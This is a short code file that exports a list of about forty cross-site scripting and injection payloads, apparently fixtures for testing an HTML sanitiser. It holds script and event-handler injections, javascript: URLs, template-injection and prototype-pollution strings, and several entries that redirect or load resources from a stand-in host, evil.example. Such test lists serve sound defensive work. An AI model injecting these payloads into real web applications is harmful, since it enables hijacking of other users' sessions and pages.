// What an attacker writes into a field that somebody else's page shows.
export const payloads = [
  "<script>window.hacked=1</script>", "<img src=x onerror=window.hacked=1>", "<svg onload=window.hacked=1>", "\"><script>window.hacked=1</script>", "'><img src=x onerror=window.hacked=1>",
  "</title><script>window.hacked=1</script>", "</textarea><script>window.hacked=1</script>", "<iframe srcdoc='<script>top.hacked=1</script>'>", "javascript:window.hacked=1", "<a href=javascript:window.hacked=1>x</a>",
  "<body onload=window.hacked=1>", "<details open ontoggle=window.hacked=1>", "<input autofocus onfocus=window.hacked=1>", "<marquee onstart=window.hacked=1>", "<video><source onerror=window.hacked=1>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>", "{{constructor.constructor('window.hacked=1')()}}", "${window.hacked=1}", "#{window.hacked=1}", "<%= window.hacked=1 %>",
  "<object data=javascript:window.hacked=1>", "<embed src=javascript:window.hacked=1>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example>",
  "<style>@import'//evil.example'</style>", "<form action=//evil.example><button>x", "&lt;script&gt;window.hacked=1&lt;/script&gt;", "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e", "<ScRiPt>window.hacked=1</sCrIpT>",
  "<<script>window.hacked=1//<</script>", "<svg><animate onbegin=window.hacked=1 attributeName=x>", "<svg><a xlink:href=javascript:window.hacked=1>x</a>", "<template><script>window.hacked=1</script>", "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
  "<!--><script>window.hacked=1</script>-->", "]]><script>window.hacked=1</script>", "<img src='//evil.example/x.png'>", "__proto__[hacked]=1", "{name, plural, other {<b>x</b>}}",
];
